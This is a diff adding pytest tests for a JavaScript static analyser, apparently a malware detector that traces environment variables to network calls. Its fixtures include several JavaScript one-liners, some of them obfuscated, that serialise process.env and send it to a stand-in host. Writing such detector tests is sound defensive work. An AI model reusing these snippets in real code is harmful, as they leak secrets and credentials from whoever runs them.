@@ -1,0 +1,59 @@
+from __future__ import annotations
+
+import pytest
+
+from assay.javascript.read import read
+from assay.model.source import BehaviourKind, SourceFile
+
+DUMP = "const https = require('https');\nhttps.get('https://a.invalid/?' + JSON.stringify(process.env));\n"
+
+
+def kinds(file: SourceFile) -> set[tuple[BehaviourKind, BehaviourKind]]:
+    return {(flow.source.kind, flow.sink.kind) for flow in file.flows}
+
+
+def test_place_and_entry_points_are_told() -> None:
+    file = read("lib/a.js", DUMP.encode(), ("main",))
+    assert (file.path, file.size_bytes, file.reached_by) == ("lib/a.js", len(DUMP), ("main",))
+    assert [str(flow.sink.location) for flow in file.flows] == ["lib/a.js:2:1"]
+
+
+@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32"])
+def test_any_encoding_is_read(encoding: str) -> None:
+    assert kinds(read("a.js", DUMP.encode(encoding))) == {(BehaviourKind.ENVIRONMENT_DUMP, BehaviourKind.NETWORK)}
+
+
+THEFTS = {
+    "request and write": "const r = require('https').request({}); r.write(JSON.stringify(process.env)); r.end()",
+    "spread": "fetch('https://a.invalid', {method: 'POST', body: JSON.stringify({...process.env})})",
+    "hidden": "const h = require('ht' + 'tps'), e = process['env']; h.get('https://a.invalid/' + escape(e))",
+    "pattern": "import {request as r} from 'node:https'; const {env} = process; r('https://a.invalid/' + escape(env))",
+    "through functions": (
+        "function all() { return {e: process.env} }\n"
+        "async function send(data) { await fetch('https://a.invalid', {body: JSON.stringify(data)}) }\nsend(all())"
+    ),
+}
+
+
+@pytest.mark.parametrize("code", THEFTS.values(), ids=THEFTS.keys())
+def test_the_environment_is_followed_to_the_network(code: str) -> None:
+    assert (BehaviourKind.ENVIRONMENT_DUMP, BehaviourKind.NETWORK) in kinds(read("a.js", code.encode()))
+
+
+QUIET = {
+    "plain variables": "if (process.env.NODE_ENV) fetch('https://a.invalid', {proxy: process.env.HTTP_PROXY})",
+    "passed to a child": "const {spawn} = require('child_process'); spawn('x', {env: process.env}); fetch('https://a.invalid')",
+    "global object": "const g = new Function('return this')(); const u = atob('YQ==')",
+    "no code at all": "\x89PNG\r\n\x1a\n" + "\0" * 100,
+    "empty": "",
+}
+
+
+@pytest.mark.parametrize("code", QUIET.values(), ids=QUIET.keys())
+def test_honest_code_has_no_flow(code: str) -> None:
+    assert not read("a.js", code.encode("latin-1")).flows
+
+
+def test_hidden_text_is_decoded() -> None:
+    (flow,) = read("a.js", b"eval(Buffer.from('636f6e736f6c65', 'hex').toString())").flows
+    assert (flow.source.decoded, flow.sink.kind) == ("console", BehaviourKind.DYNAMIC_CODE)
